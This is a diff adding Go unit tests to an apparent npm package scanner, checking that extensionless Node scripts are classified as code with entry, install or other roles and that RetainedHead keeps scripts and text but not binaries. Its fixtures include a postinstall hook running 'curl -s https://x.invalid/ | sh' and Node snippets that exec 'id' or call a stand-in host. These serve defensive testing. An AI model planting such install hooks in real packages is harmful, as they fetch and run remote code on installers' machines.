@@ -192,3 +192,63 @@ func TestCancelled(t *testing.T) {
 		t.Error("cancelled context accepted")
 	}
 }
+
+// Scripts with no code extension are code when Node runs them: a bin
+// with a "#!/usr/bin/env node" line (with or without "./" in package.json),
+// a file an install script hands to node, a shebang script nothing names.
+// Shell scripts, text and binaries are not.
+func TestScriptsWithoutExtension(t *testing.T) {
+	fsys := pkgFS(map[string]string{
+		"package.json":  `{"name":"a","version":"1.0.0","bin":{"a":"bin/cli","a2":"./bin/other"},"scripts":{"postinstall":"node scripts/setup && sh ./scripts/hook && ./scripts/run"}}`,
+		"bin/cli":       "#!/usr/bin/env node\nrequire('child_process').exec('id')",
+		"bin/other":     "#!/usr/bin/env -S node --no-warnings\nrequire('os').hostname()",
+		"scripts/setup": "require('https').get('https://x.invalid/')",
+		"scripts/hook":  "#!/bin/sh\ncurl -s https://x.invalid/ | sh",
+		"scripts/run":   "#!/usr/bin/env bun\nrequire('child_process').spawn('id')",
+		"tools/gen":     "#!/usr/bin/env node\nrequire('fs').writeFileSync('x', '')",
+		"LICENSE":       "MIT License\n\nCopyright (c) someone",
+		"bin/native":    "\x7fELF\x02\x01\x01\x00",
+		"lib/index.js":  "",
+	})
+	tg := NewTarget(fsys, DefaultLimits())
+	files := tg.CodeFiles()
+	for f, role := range map[string]Role{"bin/cli": RoleEntry, "bin/other": RoleEntry, "scripts/setup": RoleInstall, "scripts/run": RoleInstall, "tools/gen": RoleOther} {
+		if !slices.Contains(files, f) || tg.Role(f) != role {
+			t.Errorf("%s: in code files %v, role %s, want %s", f, slices.Contains(files, f), tg.Role(f), role)
+			continue
+		}
+		if facts, err := tg.Facts(f); err != nil || facts.Mode != jsast.ModeAST || len(facts.Calls) == 0 {
+			t.Errorf("%s facts %+v %v", f, facts, err)
+		}
+	}
+	for _, f := range []string{"scripts/hook", "LICENSE", "bin/native"} {
+		if slices.Contains(files, f) {
+			t.Errorf("%s taken for code: %v", f, files)
+		}
+	}
+	if n := len(files); n != len(slices.Compact(slices.Clone(files))) {
+		t.Errorf("a file listed twice: %v", files)
+	}
+}
+
+// RetainedHead keeps scripts and extensionless text, not binaries.
+func TestRetainedHead(t *testing.T) {
+	for _, tc := range []struct {
+		name, head string
+		want       bool
+	}{
+		{"bin/cli", "#!/usr/bin/env node\n", true},
+		{"setup.py", "#!/usr/bin/env python3\n", true},
+		{"scripts/setup", "require('x')", true},
+		{"LICENSE", "MIT License", true},
+		{"bin/tool", "\x7fELF\x02\x01\x01\x00\x00", false},
+		{"notes", "caf\xc3", true}, // a character cut off by the head
+		{"blob", "\xff\xfe\xfd garbage", false},
+		{"image.png", "\x89PNG\r\n", false},
+		{"data.bin", "plain text", false},
+	} {
+		if got := RetainedHead(tc.name, []byte(tc.head)); got != tc.want {
+			t.Errorf("RetainedHead(%q, %q) = %v, want %v", tc.name, tc.head, got, tc.want)
+		}
+	}
+}
